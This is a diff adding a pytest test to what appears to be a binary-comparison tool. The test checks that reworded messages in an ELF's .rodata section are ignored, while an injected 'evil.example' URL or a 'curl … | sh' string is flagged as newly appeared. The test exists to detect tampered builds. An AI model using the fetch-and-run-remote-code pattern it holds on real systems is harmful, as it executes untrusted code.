@@ -73,6 +73,20 @@ def test_a_path_that_moved_did_not_appear() -> None:
     assert list(found) == ["native-build-path"]
 
 
+def test_an_address_in_a_message_that_was_worded_anew_did_not_appear() -> None:
+    address = b"https://docs.example/api.html"
+    old, new = b"compiled against another API, see ", b"this was compiled against an older API, look at "
+    rebuilt = Elf(sections={".rodata": b"\0" + new + address + b"\0"}).build()
+    same = Elf(sections={".rodata": b"\0" + old + address + b"\0"}).build()
+    assert "native-strings-appeared" not in causes_of(same, rebuilt)
+    other = Elf(sections={".rodata": b"\0" + old + b"https://evil.example/api.html\0"}).build()
+    assert causes_of(other, rebuilt)["native-strings-appeared"] == (
+        "only the published file holds '…st another API, see https://evil.example/api.html'"
+    )
+    fetched = Elf(sections={".rodata": b"\0curl " + address + b" | sh\0"}).build()
+    assert "native-strings-appeared" in causes_of(fetched, rebuilt)
+
+
 def test_a_member_that_is_too_large_for_memory_is_streamed() -> None:
     published, rebuilt = Elf(build_id=b"\x22" * 20).build(), Elf().build()
     assert list(causes_of(published, rebuilt, streamed=True)) == ["native-build-id"]
